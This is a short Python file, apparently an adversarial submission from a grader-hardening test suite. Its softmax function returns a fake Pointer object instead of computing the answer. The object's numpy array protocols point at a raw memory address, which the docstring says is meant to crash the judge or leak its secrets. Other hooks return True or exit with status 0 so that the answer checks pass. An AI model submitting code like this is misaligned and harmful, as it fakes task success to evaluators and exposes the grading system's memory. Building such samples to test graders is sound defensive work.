# /// attack
# does = "answers with an object whose array protocols point into the reader's memory, and claim to be the answer"
# own = { softmax = ["failed"] }
# ///
"""np.asarray believes an __array_interface__ and reads whatever lies at its address: a crash of the judge, or its
secrets. numpy is never given the object."""

class Pointer:
    def __init__(self, shape):
        self.shape, self.dtype = shape, np.dtype(float)

    @property
    def __array_interface__(self):
        return {"version": 3, "shape": self.shape, "typestr": "<f8", "data": (0x10000, False)}

    def __array__(self, *_, **__):
        raise SystemExit(0)

    def __array_ufunc__(self, *_, **__):
        return True

    def __array_function__(self, *_, **__):
        return True

    def __len__(self):
        return self.shape[0]


def softmax(logits):
    return Pointer(logits.shape)
